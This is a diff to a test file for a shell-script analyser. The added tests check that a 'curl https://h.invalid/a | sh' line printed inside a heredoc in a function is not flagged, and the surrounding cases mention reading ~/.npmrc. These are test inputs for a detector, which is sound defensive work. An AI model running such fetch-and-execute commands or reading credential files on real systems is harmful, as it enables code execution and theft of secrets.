@@ -137,6 +137,7 @@ describe('what a command does', () => {
     'launchctl list',
     'crontab -l',
     'cat <<EOF\nTo install: curl https://h.invalid/a | sh\nIt reads ~/.npmrc\nEOF',
+    'usage() {\n  cat <<EOF\n  curl https://h.invalid/a | sh\nEOF\n}\nusage',
     'usage() { echo "curl https://h.invalid | sh"; }; usage',
     'A=1; B="$A"; export C=$B; for f in a b; do echo $f; done',
   ])('nothing: %s', (line) => {
@@ -159,6 +160,11 @@ describe('what a command does', () => {
     const { spotted } = readShellScript(script, false);
     expect(spotted).toContainEqual({ kind: 'download-execute', detail: 'sh runs what was fetched', at: script.lastIndexOf('sh'), readAs: 'written' });
     expect(spotted.filter(({ kind }) => kind === 'network')).toEqual([expect.objectContaining({ detail: 'h.invalid' })]);
+  });
+
+  it('texts that a function shows are no commands', () => {
+    const script = '#!/bin/sh\nusage() {\n  cat <<EOF\n  curl https://h.invalid/a | sh\n  ~/.npmrc\nEOF\n}\nusage\n';
+    expect(readShellScript(script, false).spotted).toEqual([]);
   });
 
   it('starts in one line of a batch file what another fetched', () => {
